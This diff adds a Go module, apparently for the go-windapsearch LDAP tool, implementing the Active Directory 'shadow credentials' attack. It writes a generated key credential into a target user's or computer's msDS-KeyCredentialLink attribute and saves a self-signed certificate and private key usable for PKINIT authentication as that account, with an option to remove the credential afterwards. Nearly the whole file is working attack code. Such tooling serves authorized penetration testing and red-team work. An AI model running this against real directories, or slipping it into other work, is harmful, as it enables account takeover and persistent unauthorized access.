@@ -0,0 +1,188 @@
+package modules
+
+import (
+	"crypto/rand"
+	"crypto/rsa"
+	"crypto/x509"
+	"crypto/x509/pkix"
+	"encoding/pem"
+	"fmt"
+	"io/ioutil"
+	"math/big"
+	"os"
+	"strings"
+	"time"
+
+	"github.com/go-ldap/ldap/v3"
+	"github.com/ropnop/go-windapsearch/pkg/adschema"
+	"github.com/ropnop/go-windapsearch/pkg/adschema/secdesc"
+	"github.com/ropnop/go-windapsearch/pkg/ldapsession"
+	"github.com/spf13/pflag"
+)
+
+const keyCredentialAttribute = "msDS-KeyCredentialLink"
+
+type ShadowCredentialsModule struct {
+	Target   string
+	Action   string
+	DeviceID string
+	Out      string
+}
+
+func init() {
+	AllModules = append(AllModules, new(ShadowCredentialsModule))
+	adschema.RegisterAttribute("deviceId", "String(Unicode)", true)
+	adschema.RegisterAttribute("certFile", "String(Unicode)", true)
+	adschema.RegisterAttribute("keyFile", "String(Unicode)", true)
+}
+
+func (s *ShadowCredentialsModule) Name() string {
+	return "shadow-creds"
+}
+
+func (s *ShadowCredentialsModule) Description() string {
+	return "Add or remove a KeyCredential (shadow credentials) in an account's msDS-KeyCredentialLink for PKINIT"
+}
+
+func (s *ShadowCredentialsModule) FlagSet() *pflag.FlagSet {
+	flags := pflag.NewFlagSet(s.Name(), pflag.ExitOnError)
+	flags.StringVar(&s.Target, "target", "", "DN or sAMAccountName of the user or computer to modify")
+	flags.StringVar(&s.Action, "action", "add", "Whether to add a new key credential or remove one: add, remove")
+	flags.StringVar(&s.DeviceID, "device-id", "", "Device ID of the key credential to remove")
+	flags.StringVar(&s.Out, "out", "", "Path prefix for the generated certificate and key (default: <target>_<device id>)")
+	return flags
+}
+
+func (s *ShadowCredentialsModule) DefaultAttrs() []string {
+	return []string{"action", "deviceId", "certFile", "keyFile", "status"}
+}
+
+func (s *ShadowCredentialsModule) IsWriteModule() bool {
+	return true
+}
+
+func (s *ShadowCredentialsModule) Run(session *ldapsession.LDAPSession, attrs []string) error {
+	if s.Target == "" {
+		return fmt.Errorf("must provide a --target")
+	}
+	dn, err := resolveDN(session, s.Target, "")
+	if err != nil {
+		return err
+	}
+	switch strings.ToLower(s.Action) {
+	case "add":
+		return s.add(session, dn, attrs)
+	case "remove":
+		return s.remove(session, dn, attrs)
+	}
+	return fmt.Errorf("invalid action %q (must be one of add, remove)", s.Action)
+}
+
+func (s *ShadowCredentialsModule) add(session *ldapsession.LDAPSession, dn string, attrs []string) error {
+	key, err := rsa.GenerateKey(rand.Reader, 2048)
+	if err != nil {
+		return err
+	}
+	var deviceID secdesc.GUID
+	if _, err = rand.Read(deviceID[:]); err != nil {
+		return err
+	}
+	cred := adschema.NewKeyCredential(&key.PublicKey, deviceID, dn)
+
+	req := ldap.NewModifyRequest(dn, nil)
+	req.Add(keyCredentialAttribute, []string{cred.DNBinary()})
+	applied, err := session.Modify(req)
+	if err != nil {
+		return fmt.Errorf("unable to add key credential: %s", err)
+	}
+	values := map[string][]string{
+		"action":   {"add"},
+		"deviceId": {deviceID.String()},
+		"status":   {writeStatus(session, applied)},
+	}
+	// the key is useless unless the credential was really written
+	if applied {
+		certFile, keyFile, err := s.writeKeyPair(key, dn, deviceID)
+		if err != nil {
+			return fmt.Errorf("key credential added, but unable to save certificate: %s", err)
+		}
+		values["certFile"] = []string{certFile}
+		values["keyFile"] = []string{keyFile}
+	}
+	writeResult(session, dn, values, attrs)
+	return nil
+}
+
+// writeKeyPair saves a self-signed certificate for the key, together with the key, as PEM files for PKINIT
+func (s *ShadowCredentialsModule) writeKeyPair(key *rsa.PrivateKey, dn string, deviceID secdesc.GUID) (certFile, keyFile string, err error) {
+	name := strings.TrimPrefix(strings.SplitN(dn, ",", 2)[0], "CN=")
+	template := &x509.Certificate{
+		SerialNumber: big.NewInt(time.Now().UnixNano()),
+		Subject:      pkix.Name{CommonName: name},
+		NotBefore:    time.Now().Add(-time.Hour),
+		NotAfter:     time.Now().AddDate(1, 0, 0),
+		KeyUsage:     x509.KeyUsageDigitalSignature | x509.KeyUsageKeyEncipherment,
+		ExtKeyUsage:  []x509.ExtKeyUsage{x509.ExtKeyUsageClientAuth},
+	}
+	der, err := x509.CreateCertificate(rand.Reader, template, template, &key.PublicKey, key)
+	if err != nil {
+		return
+	}
+
+	prefix := s.Out
+	if prefix == "" {
+		prefix = fmt.Sprintf("%s_%s", strings.TrimSuffix(name, "$"), deviceID.String()[:8])
+	}
+	certFile, keyFile = prefix+".crt", prefix+".key"
+	certPEM := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})
+	if err = ioutil.WriteFile(certFile, certPEM, 0644); err != nil {
+		return
+	}
+	keyPEM := pem.EncodeToMemory(&pem.Block{Type: "RSA PRIVATE KEY", Bytes: x509.MarshalPKCS1PrivateKey(key)})
+	if err = ioutil.WriteFile(keyFile, keyPEM, 0600); err != nil {
+		return
+	}
+	fmt.Fprintf(os.Stderr, "[+] Saved certificate to %s and key to %s\n", certFile, keyFile)
+	return
+}
+
+func (s *ShadowCredentialsModule) remove(session *ldapsession.LDAPSession, dn string, attrs []string) error {
+	if s.DeviceID == "" {
+		return fmt.Errorf("must provide the --device-id of the key credential to remove")
+	}
+	deviceID, err := secdesc.ParseGUID(s.DeviceID)
+	if err != nil {
+		return err
+	}
+	sr := ldap.NewSearchRequest(dn, ldap.ScopeBaseObject, ldap.NeverDerefAliases, 0, 0, false,
+		"(objectClass=*)", []string{keyCredentialAttribute}, nil)
+	res, err := session.GetSearchResults(sr)
+	if err != nil {
+		return err
+	}
+	if len(res.Entries) == 0 {
+		return fmt.Errorf("object %q not found", dn)
+	}
+
+	values := map[string][]string{"action": {"remove"}, "deviceId": {deviceID.String()}, "status": {"unchanged (not found)"}}
+	for _, value := range res.Entries[0].GetAttributeValues(keyCredentialAttribute) {
+		cred, err := adschema.ParseKeyCredential(value)
+		if err != nil {
+			session.Log.Warnf("unable to parse key credential: %s", err)
+			continue
+		}
+		if cred.DeviceID != deviceID {
+			continue
+		}
+		req := ldap.NewModifyRequest(dn, nil)
+		req.Delete(keyCredentialAttribute, []string{value})
+		applied, err := session.Modify(req)
+		if err != nil {
+			return fmt.Errorf("unable to remove key credential: %s", err)
+		}
+		values["status"] = []string{writeStatus(session, applied)}
+		break
+	}
+	writeResult(session, dn, values, attrs)
+	return nil
+}